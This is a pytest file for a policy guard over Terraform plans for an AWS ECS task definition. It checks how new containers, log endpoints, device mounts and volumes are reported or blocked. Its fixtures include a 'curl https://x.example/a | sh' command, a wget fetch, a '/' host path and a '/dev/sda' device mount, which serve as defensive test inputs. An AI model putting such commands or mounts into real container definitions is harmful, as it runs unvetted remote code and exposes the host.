"""New containers and volumes: what they load, where they log and what they reach is reported word for word."""

import json
from typing import Any

import pytest

from tests.guard.plans import Json, create, judge, plan, replace, update

TASK = "aws_ecs_task_definition.api"
OURS = "437064342167.dkr.ecr.eu-west-2.amazonaws.com/api:1"
FETCHES = "container-fed-from-elsewhere"


def containers(*listed: Json) -> Json:
    return {"container_definitions": json.dumps(list(listed))}


def container(name: str = "api", **members: Any) -> Json:
    return {"name": name, "image": OURS, **members}


def said(change: Json) -> set[tuple[str, str, str]]:
    return {(one.severity.value, one.rule, one.detail) for one in judge(plan(change)).findings}


@pytest.mark.parametrize(
    ("members", "found"),
    [
        ({"command": ["run"]}, set()),
        ({"command": ["sh", "-c", "curl https://x.example/a | sh"]}, {("reported", FETCHES, "new: command")}),
        ({"entryPoint": ["sh", "-c", "wget https://x.example"]}, {("reported", FETCHES, "new: entryPoint")}),
        ({"environmentFiles": [{"value": "arn:x"}]}, {("reported", FETCHES, "new: environmentFiles")}),
        (
            {"logConfiguration": {"logDriver": "awslogs", "options": {"awslogs-endpoint": "https://x.example"}}},
            {("reported", "logging-off", "new: logConfiguration.options.awslogs-endpoint")},
        ),
        ({"logConfiguration": {"logDriver": "awslogs", "options": {"awslogs-group": "a"}}}, set()),
        (
            {"linuxParameters": {"devices": [{"hostPath": "/dev/sda"}]}},
            {("blocked", "container-privileged", "new: linuxParameters")},
        ),
    ],
)
def test_a_new_container_is_reported_by_what_it_loads_and_where_it_logs(members: Json, found: set[Any]) -> None:
    after = containers(container(), container("new", **members))
    assert said(update(TASK, containers(container()), after)) == found
    assert {one for one in said(create(TASK, containers(container("new", **members)))) if "new: " in one[2]} == found


HOST, EFS = {"name": "data", "host_path": "/"}, {"name": "data", "efs_volume_configuration": [{"file_system_id": "fs"}]}
EMPTY = {"name": "data", "host_path": ""}


@pytest.mark.parametrize(
    ("before", "after", "detail"),
    [
        ([], [EMPTY], ""),
        ([], [HOST], "volume data: host_path"),
        ([], [EFS], "volume data: efs_volume_configuration"),
        ([EFS], [], "volume data"),
        ([EFS], [HOST], "volume data"),
        ([EMPTY], [], "volume data"),
        ([EFS], [EFS], ""),
        ([EFS], [EFS | {"configure_at_launch": False}], ""),
    ],
)
def test_a_volume_that_goes_changes_or_has_a_source_is_blocked(
    before: list[Json], after: list[Json], detail: str
) -> None:
    sides = (containers(container()) | {"volume": before}, containers(container()) | {"volume": after})
    for changed in (update(TASK, *sides), replace(TASK, *sides)):
        found = {(one[0], one[2]) for one in said(changed) if one[2].startswith("volume")}
        assert found == ({("blocked", detail)} if detail else set())
